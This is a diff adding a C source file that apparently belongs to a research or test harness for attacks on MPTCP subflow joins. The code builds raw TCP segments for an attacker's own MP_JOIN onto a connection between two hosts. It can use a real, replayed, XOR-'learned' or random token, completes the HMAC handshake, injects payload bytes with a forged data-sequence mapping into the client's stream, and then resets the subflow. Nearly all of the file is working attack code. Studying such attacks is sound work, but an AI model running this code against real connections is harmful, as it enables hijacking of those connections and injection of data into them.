@@ -1,0 +1,251 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * A join of the attacker's own to a connection of the hosts, packet by packet: what
+ * the attacks on joins are made of
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/random.h>
+
+#include "attacker.h"
+
+#define MSS 1400
+
+const char *const answers[] = { "silent", "refused", "answered" };
+
+uint32_t random32(void)
+{
+	uint32_t value;
+
+	if (getrandom(&value, sizeof(value), 0) != sizeof(value))
+		abort();
+	return value;
+}
+
+/* What the recorded join's token was masked with, if it was one of @connection */
+static uint32_t learned_token_mask(const struct connection *connection)
+{
+	return recorded.token ^ key_token(connection->keys[SERVER]);
+}
+
+/*
+ * token=real	 the target's, in plain
+ * token=learned the target's, with the mask of the recorded join, which was one
+ *		 of connection learn=N
+ * token=recorded what was on the wire
+ * token=random
+ */
+void start_attempt(struct attempt *attempt, const struct connection *target,
+		   const struct connection *teacher, unsigned int nr)
+{
+	const char *token = arg("token", "real");
+
+	memset(attempt, 0, sizeof(*attempt));
+	attempt->path = (int)arg_number("path", "1") - 1;
+	attempt->from.addr = arg_addr("from", "10.0.1.66");
+	attempt->from.port =
+		htons((uint16_t)(arg_number("port", "0") ?
+					 arg_number("port", "0") :
+					 20000 + random32() % 20000 + nr));
+	attempt->to = target->ends[SERVER];
+	attempt->seq = random32();
+	attempt->nonces[CLIENT] = arg_is("nonce", "recorded", "fresh") ?
+					  recorded.nonces[CLIENT] :
+					  random32();
+	attempt->token = key_token(target->keys[SERVER]);
+	if (!strcmp(token, "recorded"))
+		attempt->token = recorded.token;
+	else if (!strcmp(token, "learned"))
+		attempt->token ^= learned_token_mask(teacher);
+	else if (!strcmp(token, "random"))
+		attempt->token = random32();
+}
+
+static void send_attempt(const struct attempt *attempt, struct plan *plan)
+{
+	const struct link *link = &links[attempt->path][SERVER];
+	struct frame frame;
+
+	plan->from_mac = link->mac;
+	plan->to_mac = link->peer_mac;
+	plan->from = attempt->from;
+	plan->to = attempt->to;
+	plan->seq = attempt->seq;
+	plan->ack = attempt->peer_seq;
+	make_segment(&frame, plan);
+	send_frame(link, &frame);
+}
+
+/* The next segment that the server sends on this subflow */
+static bool next_segment(const struct attempt *attempt, int64_t until,
+			 struct frame *frame, struct segment *segment)
+{
+	while (pump(until, false, frame)) {
+		if (parse_segment(frame, segment) &&
+		    same_endpoint(&segment->from, &attempt->to) &&
+		    same_endpoint(&segment->to, &attempt->from))
+			return true;
+	}
+	return false;
+}
+
+void send_syn(const struct attempt *attempt)
+{
+	struct plan plan = { .flags = TH_SYN };
+	uint8_t *at = plan.options;
+
+	*at++ = TCPOPT_MAXSEG;
+	*at++ = TCPOLEN_MAXSEG;
+	at = put16(at, MSS);
+	*at++ = MPTCP_KIND;
+	*at++ = JOIN_SYN_LEN;
+	*at++ = MP_JOIN << 4;
+	*at++ = (uint8_t)arg_number("id", "66");
+	at = put32(at, attempt->token);
+	at = put32(at, attempt->nonces[CLIENT]);
+	plan.options_len = (unsigned int)(at - plan.options);
+	send_attempt(attempt, &plan);
+}
+
+/* No option at all: the sequence number of the answer, a cookie perhaps */
+bool ask_for_cookie(const struct attempt *attempt, uint32_t *cookie)
+{
+	int64_t until = now_ms() + patience_ms;
+	struct plan plan = { .flags = TH_SYN };
+	struct segment segment;
+	struct frame frame;
+
+	send_attempt(attempt, &plan);
+	while (next_segment(attempt, until, &frame, &segment)) {
+		if (!segment.tcp->syn)
+			continue;
+		*cookie = segment.seq;
+		return true;
+	}
+	return false;
+}
+
+enum answer take_synack(struct attempt *attempt)
+{
+	int64_t until = now_ms() + patience_ms;
+	struct segment segment;
+	struct frame frame;
+	const uint8_t *join;
+
+	while (next_segment(attempt, until, &frame, &segment)) {
+		if (segment.tcp->rst)
+			return REFUSED;
+		join = find_mptcp(&segment, MP_JOIN);
+		if (!segment.tcp->syn || !join || join[1] != JOIN_SYNACK_LEN)
+			continue;
+		attempt->seq++;
+		attempt->peer_seq = segment.seq + 1;
+		attempt->synack = get64(join + 4);
+		attempt->nonces[SERVER] = get32(join + 12);
+		return ANSWERED;
+	}
+	return SILENT;
+}
+
+uint64_t synack_hmac(const struct connection *connection,
+		     const struct attempt *attempt)
+{
+	uint8_t hmac[SHA256_DIGEST_LENGTH];
+
+	join_hmac(connection->keys[SERVER], connection->keys[CLIENT],
+		  attempt->nonces[SERVER], attempt->nonces[CLIENT], hmac);
+	return get64(hmac);
+}
+
+static enum answer send_ack(const struct attempt *attempt,
+			    const uint8_t hmac[ACK_HMAC_LEN])
+{
+	struct plan plan = { .flags = TH_ACK, .options_len = JOIN_ACK_LEN };
+	int64_t until = now_ms() + patience_ms;
+	struct segment segment;
+	struct frame frame;
+
+	plan.options[0] = MPTCP_KIND;
+	plan.options[1] = JOIN_ACK_LEN;
+	plan.options[2] = MP_JOIN << 4;
+	memcpy(plan.options + 4, hmac, ACK_HMAC_LEN);
+	send_attempt(attempt, &plan);
+	while (next_segment(attempt, until, &frame, &segment)) {
+		if (segment.tcp->rst)
+			return REFUSED;
+		/* Not the SYN/ACK again: the fourth packet, which ends the join */
+		if (!segment.tcp->syn)
+			return ANSWERED;
+	}
+	return SILENT;
+}
+
+static void send_reset(const struct attempt *attempt)
+{
+	struct plan plan = { .flags = TH_RST | TH_ACK };
+
+	send_attempt(attempt, &plan);
+}
+
+/* Whether MPTCP has all data up to this sequence number */
+static bool acknowledges(const struct segment *segment, uint64_t dsn)
+{
+	const uint8_t *dss = find_mptcp(segment, MP_DSS);
+
+	if (!dss || !(dss[3] & 1))
+		return false;
+	return dss[3] & 2 ? get64(dss + 4) == dsn :
+			    get32(dss + 4) == (uint32_t)dsn;
+}
+
+/* Bytes into the stream of the client, behind those @offset that it sent itself */
+static enum answer send_data(struct attempt *attempt,
+			     const struct connection *connection,
+			     unsigned int len, unsigned int offset)
+{
+	static uint8_t bytes[1024];
+	uint64_t dsn = key_first_dsn(connection->keys[CLIENT]) + offset;
+	struct plan plan = { .flags = TH_ACK | TH_PUSH, .payload = bytes };
+	int64_t until = now_ms() + patience_ms;
+	struct segment segment;
+	struct frame frame;
+	uint8_t *at = plan.options;
+
+	plan.payload_len = len < sizeof(bytes) ? len : sizeof(bytes);
+	memset(bytes, 'A', sizeof(bytes));
+	*at++ = MPTCP_KIND;
+	*at++ = 26;
+	*at++ = MP_DSS << 4;
+	*at++ = 0xf; /* data ack and mapping, both of 8 bytes */
+	at = put64(at, key_first_dsn(connection->keys[SERVER]));
+	at = put64(at, dsn);
+	at = put32(at, 1);
+	at = put16(at, (uint16_t)plan.payload_len);
+	plan.options_len = (unsigned int)(at - plan.options);
+	send_attempt(attempt, &plan);
+	attempt->seq += plan.payload_len;
+	while (next_segment(attempt, until, &frame, &segment)) {
+		if (segment.tcp->rst)
+			return REFUSED;
+		if (acknowledges(&segment, dsn + plan.payload_len))
+			return ANSWERED;
+	}
+	return SILENT;
+}
+
+/* From the SYN/ACK on; says how far it came */
+void end_join(struct attempt *attempt, const struct connection *target,
+	      const uint8_t hmac[ACK_HMAC_LEN])
+{
+	unsigned int bytes = arg_number("bytes", "0");
+	enum answer answer = send_ack(attempt, hmac);
+
+	printf(" ack=%s", answers[answer]);
+	if (answer == ANSWERED && bytes)
+		printf(" data=%s",
+		       answers[send_data(attempt, target, bytes,
+					 arg_number("offset", "1"))]);
+	/* Or the server might want to send its answer this way */
+	send_reset(attempt);
+}
